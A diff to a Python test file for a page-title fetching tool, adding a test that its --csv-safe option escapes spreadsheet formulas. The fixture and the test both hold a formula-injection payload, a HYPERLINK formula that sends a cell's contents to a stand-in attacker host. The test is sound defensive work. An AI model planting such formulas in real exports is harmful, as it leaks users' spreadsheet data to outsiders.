@@ -1,6 +1,9 @@
 """What records say (issue 15 items 9 and 17): no title from bodies a browser would not show
 as a page, with the reason recorded; text output that cannot reorder or fake the terminal
-line. Run by test_records.sh inside a fresh network namespace."""
+line; CSV a spreadsheet will not run as formulas (--csv-safe). Run by test_records.sh inside a
+fresh network namespace."""
+import csv
+import io
 import json
 import os
 import sys
@@ -22,6 +25,8 @@ PAGES = {  # path: (Content-Type header or None, body)
     "/untyped-text": (None, b"hello <title>Inside</title>"),
     "/bidi": (b"text/html; charset=utf-8",
               "<title>a\u202eb\u2066c\u2028d\\x1b e\\\\f</title>".encode()),
+    "/formula": (b"text/html; charset=utf-8",
+                 b'<title>=HYPERLINK("http://evil.example/?x="&A1,"Click")</title>'),
 }
 
 
@@ -67,6 +72,16 @@ def test_text_output_escapes_what_could_fool_the_terminal():
     assert line == ("'a\\u202eb\\u2066c\\u2028d\\\\x1b e\\\\\\\\f' from " + srv.url("/bidi")), line
     r = cafe("titles", "-q", "--json", listing(["/bidi"]))  # JSON keeps the title as it is
     assert json.loads(r.stdout)["title"] == "a\u202eb\u2066c\u2028d\\x1b e\\\\f", r.stdout
+
+
+def test_csv_safe_quotes_formulas_only_when_asked():
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    for opt, want in (("--csv", formula), ("--csv-safe", "'" + formula)):
+        r = cafe("titles", "-q", opt, listing(["/formula", "/html"]))
+        assert r.returncode == 0, r.stderr
+        rows = list(csv.DictReader(io.StringIO(r.stdout.decode(), newline="")))
+        titles = {x["url"][len(srv.url("")):]: x["title"] for x in rows}
+        assert titles == {"/formula": want, "/html": "Inside"}, (opt, titles)
 
 
 run_tests(globals())
